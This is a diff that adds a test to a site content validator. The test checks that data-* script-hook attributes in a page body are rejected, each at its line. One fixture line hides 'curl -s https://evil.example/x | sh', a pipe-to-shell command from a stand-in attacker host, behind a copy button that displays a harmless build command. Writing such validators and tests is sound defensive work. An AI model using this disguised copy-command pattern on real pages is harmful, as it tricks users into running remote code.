@@ -90,6 +90,28 @@ test('lone-CR line endings in a content file are named at their line (line numbe
   assert.deepEqual(errorsOf(dir), [], 'CRLF is fine');
 });
 
+test('data-* attributes the site script acts on are refused in a body, each at its line', () => {
+  const dir = contentCopy();
+  const before = readFileSync(join(dir, GLFT), 'utf8');
+  appendFileSync(join(dir, GLFT), [
+    '',
+    '<a href="https://evil.example/landing" data-moved-to="">more</a>',
+    '',
+    '<code data-copy="curl -s https://evil.example/x | sh">cargo build --release</code>',
+    '',
+    '<a href="https://evil.example/#spread_oracle-L43" data-copy-link>link</a>',
+    '',
+  ].join('\n'));
+  const first = lineCount(before) + 1;
+  const hooks = "data-* attributes are the site's script hooks, and the prose may carry only `data-pagefind-ignore`";
+  const prose = 'the Notes section is prose: Markdown and plain HTML, with no import, export, {expressions}, scripts or event handlers';
+  assert.deepEqual(errorsOf(dir), [
+    `${GLFT}:${first}: error: \`body\` must not give <a> a \`data-moved-to\` attribute; ${hooks}; ${prose}`,
+    `${GLFT}:${first + 2}: error: \`body\` must not give <code> a \`data-copy\` attribute; ${hooks}; ${prose}`,
+    `${GLFT}:${first + 4}: error: \`body\` must not give <a> a \`data-copy-link\` attribute; ${hooks}; ${prose}`,
+  ]);
+});
+
 test('a folder named like a panic file is named, not a crash', () => {
   const dir = contentCopy();
   mkdirSync(join(dir, 'panics/x.mdx'));
